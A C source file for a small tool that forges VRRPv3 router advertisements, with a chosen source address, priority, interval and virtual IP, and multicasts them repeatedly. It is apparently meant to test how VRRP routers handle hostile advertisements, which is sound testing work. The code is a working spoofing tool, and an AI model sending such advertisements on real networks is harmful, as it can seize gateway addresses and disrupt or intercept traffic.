/*
 * hostile-adverts INTERFACE SOURCE VRID PRIORITY CENTISECONDS VIP COUNT PAUSE_US
 *
 * Says COUNT times, as VRRPv3 and with a right checksum, that a router of this priority and this
 * Max_Advertise_Interval is there: what anybody on the network can say.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { VRRP = 112, ADVERT = 12 };

static uint32_t sum(const unsigned char *bytes, int length) {
  uint32_t total = 0;
  for (int i = 0; i < length; i += 2) total += bytes[i] << 8 | bytes[i + 1];
  return total;
}

int main(int argc, char **argv) {
  struct in_addr source, group, vip;
  if (argc != 9 || !inet_aton(argv[2], &source) || !inet_aton(argv[6], &vip)) {
    fputs("usage: hostile-adverts INTERFACE SOURCE VRID PRIORITY CENTISECONDS VIP COUNT "
          "PAUSE_US\n",
          stderr);
    return 2;
  }
  inet_aton("224.0.0.18", &group);
  const long interval = atol(argv[5]), pause = atol(argv[8]);
  unsigned char advert[ADVERT] = {3 << 4 | 1, atoi(argv[3]), atoi(argv[4]), 1};
  advert[4] = interval >> 8 & 15, advert[5] = interval & 255;
  memcpy(advert + 8, &vip, 4);

  /* RFC 9568 5.2.8, with the pseudo header that nearly everybody sends for IPv4. */
  unsigned char pseudo[12] = {[9] = VRRP, [11] = ADVERT};
  memcpy(pseudo, &source, 4), memcpy(pseudo + 4, &group, 4);
  uint32_t total = sum(pseudo, sizeof pseudo) + sum(advert, sizeof advert);
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  advert[6] = ~total >> 8 & 255, advert[7] = ~total & 255;

  const int fd = socket(AF_INET, SOCK_RAW, VRRP), ttl = 255;
  const struct ip_mreqn on = {.imr_address = source, .imr_ifindex = if_nametoindex(argv[1])};
  const struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = source};
  const struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = group};
  if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof ttl) < 0 ||
      setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &on, sizeof on) < 0 ||
      bind(fd, (const struct sockaddr *)&from, sizeof from) < 0) {
    perror("hostile-adverts: open");
    return 1;
  }
  const struct timespec wait = {pause / 1000000, pause % 1000000 * 1000};
  for (long left = atol(argv[7]); left > 0; left--) {
    if (sendto(fd, advert, sizeof advert, 0, (const struct sockaddr *)&to, sizeof to) < 0) {
      perror("hostile-adverts: send");
      return 1;
    }
    nanosleep(&wait, NULL);
  }
  return 0;
}
